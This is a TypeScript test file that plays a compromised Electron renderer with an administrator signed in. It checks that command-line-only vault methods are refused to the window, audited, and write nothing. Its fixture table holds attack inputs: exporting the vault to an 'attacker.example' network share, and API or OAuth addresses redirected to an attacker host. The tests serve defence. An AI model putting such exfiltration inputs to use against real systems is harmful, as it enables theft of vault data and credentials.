import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { contract, type MethodName } from '../../shared/contract/methods';
import { createWindowSession, type WindowSession } from '../../electron/core/window-session';
import { ADMIN, createTestVault, tempDir, value, type TestVault } from '../support/test-vault';

/**
 * A compromised renderer with an administrator signed in calls whatever it likes through
 * window.custodian. The contract's table says which methods the window may call; these tests
 * are that renderer.
 */
const cliOnly = (Object.keys(contract) as MethodName[]).filter((method) => !contract[method].callers.includes('window'));

/** What the attacker would send: its own path, passphrase and host. */
const attack: Partial<Record<MethodName, unknown>> = {
  'transfer.export': { path: '\\\\attacker.example\\share\\vault.custodian-transfer', passphrase: 'the attacker chose this one' },
  'transfer.import': { path: '/tmp/attacker.custodian-transfer', passphrase: 'the attacker chose this one', replace: true },
  'backup.setFolder': { folder: '/tmp/attacker-backups' },
  'backup.restoreFile': { file: '/tmp/attacker/custodian-2026-01-01T000000Z-manual.sqlite3' },
  'review.export': { out: '/tmp/attacker-pack' },
  'review.verify': { dir: '/tmp/attacker-pack' },
  'channel.connectVia': { channel: 'x:@pendleeducation', token: 'stolen', accountId: '1', apiBase: 'https://attacker.example' },
  'channel.connectOAuthVia': { channel: 'x:@pendleeducation', apiBase: 'https://attacker.example' },
  'platform.appAddresses': { platform: 'x', authorizeUrl: 'https://attacker.example/auth', tokenUrl: 'https://attacker.example/token' },
  'recovery.createKit': { path: '/tmp/attacker-recovery-kit.pdf' },
  // A publisher key file of the attacker's naming (a folder they can read).
  'publisher.enrol': { keyFile: '/tmp/attacker-publisher.key' },
  'recovery.grant': { channel: 'x:@pendleeducation', email: 'alex.admin@trust.example', kit: 'the attacker typed this' },
  'recovery.admin': { email: 'alex.admin@trust.example', kit: 'the attacker typed this', passphrase: 'the attacker chose this one' },
  // An administrator's reset of a passphrase, with a kit or a second administrator's passphrase typed in the window.
  'person.resetPassphrase': { email: 'alex.admin@trust.example', passphrase: 'the attacker chose this one' },
};

describe('the window is not the command line', () => {
  let v: TestVault | null = null;
  let window: WindowSession | null = null;
  afterEach(async () => {
    await window?.end();
    await v?.close();
  });

  it('names the methods that take a path, a file passphrase or an address as the command line’s only', () => {
    expect(cliOnly.sort()).toEqual(Object.keys(attack).sort());
  });

  it('refuses every command-line method to a signed-in administrator’s window, audits it, and writes nothing', async () => {
    v = await createTestVault();
    value(await v.call(v.admin, 'example.load', { demo: false }));
    window = createWindowSession(v.core);
    value(await window.invoke('auth.signIn', { email: ADMIN.email, passphrase: ADMIN.passphrase }));
    const filesBefore = readdirSync(v.dataDir).sort();
    const folderBefore = value(await v.call(v.admin, 'backup.list', {})).folder;
    for (const method of cliOnly) {
      const result = await window.invoke(method, attack[method]);
      expect(result, method).toMatchObject({ ok: false, error: { code: 'forbidden' } });
      if (!result.ok) expect(result.error.message, method).toContain('command line');
    }
    // Nothing reached the handlers: no new file, the backup folder where it was, no proxy anywhere.
    expect(readdirSync(v.dataDir).sort()).toEqual(filesBefore);
    expect(existsSync('/tmp/attacker-backups')).toBe(false);
    expect(existsSync('/tmp/attacker-pack')).toBe(false);
    expect(value(await v.call(v.admin, 'backup.list', {})).folder).toBe(folderBefore);
    expect(value(await v.call(v.admin, 'channel.connections', {}))).toEqual([]);
    expect(value(await v.call(v.admin, 'platform.apps', {}))).toEqual([]);
    // Each refusal is in the trail against the administrator, naming the door.
    const denied = value(await v.call(v.admin, 'audit.list', { action: 'permission.denied', limit: 1000 }));
    expect(denied.map((event) => event.target).sort()).toEqual([...cliOnly].sort());
    for (const event of denied) expect(event.details).toMatchObject({ caller: 'window' });
  });

  it('refuses the window an API address inside the methods it may call', async () => {
    v = await createTestVault();
    value(await v.call(v.admin, 'example.load', { demo: false }));
    window = createWindowSession(v.core);
    value(await window.invoke('auth.signIn', { email: ADMIN.email, passphrase: ADMIN.passphrase }));
    const withBase = await window.invoke('channel.connect', { channel: 'x:@pendleeducation', token: 'stolen', accountId: '1', apiBase: 'https://attacker.example' });
    expect(withBase).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    const withAddress = await window.invoke('platform.app', { platform: 'x', clientId: 'id', tokenUrl: 'https://attacker.example/token' });
    expect(withAddress).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    const byPath = await window.invoke('backup.restore', { file: '/tmp/attacker.sqlite3' });
    expect(byPath).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    expect(value(await v.call(v.admin, 'platform.apps', {}))).toEqual([]);
  });

  it('keeps a session to the door it was opened through', async () => {
    v = await createTestVault();
    const out = tempDir();
    try {
      const signedIn = await v.core.dispatch(null, 'auth.signIn', { email: ADMIN.email, passphrase: ADMIN.passphrase }, 'window');
      const windowToken = (value(signedIn) as { token: string }).token;
      const asCli = await v.core.dispatch(windowToken, 'transfer.export', { path: join(out.path, 'vault.custodian-transfer'), passphrase: 'a long transfer passphrase here' }, 'cli');
      expect(asCli).toMatchObject({ ok: false, error: { code: 'unauthenticated' } });
      expect(readdirSync(out.path)).toEqual([]);
      // The command line's own session still works there.
      expect(await v.call(v.admin, 'school.list', {})).toMatchObject({ ok: true });
    } finally {
      out.remove();
    }
  });
});
